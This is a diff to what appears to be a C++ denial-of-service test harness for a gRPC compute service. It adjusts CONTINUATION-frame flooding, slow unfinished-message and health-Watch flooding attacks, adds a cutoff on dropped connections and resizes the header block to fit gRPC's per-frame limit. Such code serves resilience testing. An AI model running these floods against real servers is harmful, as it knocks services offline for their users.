@@ -11,6 +11,7 @@ namespace {
 constexpr char kExecute[] = "/gemmd.v1.ComputeService/Execute";
 constexpr char kWatch[] = "/grpc.health.v1.Health/Watch";
 constexpr size_t kFrameBytes = 16384;
+constexpr size_t kDataBytes = 65536;  // the server takes frames of up to 1 MiB
 constexpr absl::Duration kPatience = absl::Seconds(2);
 // Between two connections: loopback would otherwise run out of ports.
 constexpr absl::Duration kPause = absl::Milliseconds(5);
@@ -19,7 +20,7 @@ constexpr absl::Duration kPause = absl::Milliseconds(5);
 template <typename Work>
 AttackCounts Repeat(const PeerOptions& options, absl::Time until, Work on_connection) {
   AttackCounts counts;
-  while (absl::Now() < until) {
+  while (absl::Now() < until && counts.cut < options.most_cuts) {
     RawConnection peer(options);
     if (peer.Handshake(absl::Seconds(2))) {
       ++counts.connections;
@@ -98,8 +99,9 @@ class Unfinished {
 }  // namespace
 
 AttackCounts ContinuationFlood(const PeerOptions& options, absl::Time until) {
+  // gRPC 1.51 holds each frame to its limit of 8 KiB, not all of them together.
   std::string fields;
-  while (fields.size() < kFrameBytes - 64) fields += HeaderField("x-flood", "0123456789abcdef");
+  while (fields.size() < 2048) fields += HeaderField("x-flood", "0123456789abcdef");
   return Repeat(options, until, [&](RawConnection& peer, AttackCounts& counts) {
     EndlessBlock(peer, RequestHeaders(kExecute), fields, until, counts);
   });
@@ -128,7 +130,7 @@ AttackCounts UnfinishedMessages(const PeerOptions& options, absl::Time until) {
   constexpr size_t kConnections = 8;
   AttackCounts counts;
   std::vector<std::unique_ptr<Unfinished>> peers;
-  while (absl::Now() < until) {
+  while (absl::Now() < until && counts.cut < options.most_cuts) {
     counts.cut += std::erase_if(peers, [](const auto& peer) { return !peer->open(); });
     if (peers.size() < kConnections) {
       peers.push_back(std::make_unique<Unfinished>(options));
@@ -147,7 +149,7 @@ AttackCounts WatchFlood(const PeerOptions& options, absl::Time until) {
   constexpr int kWatches = 1000;
   AttackCounts counts;
   std::vector<std::unique_ptr<RawConnection>> peers;
-  while (absl::Now() < until) {
+  while (absl::Now() < until && counts.cut < options.most_cuts) {
     counts.cut += std::erase_if(peers, [](const auto& peer) { return !peer->Read(); });
     if (peers.size() >= kConnections) {
       absl::SleepFor(absl::Milliseconds(20));
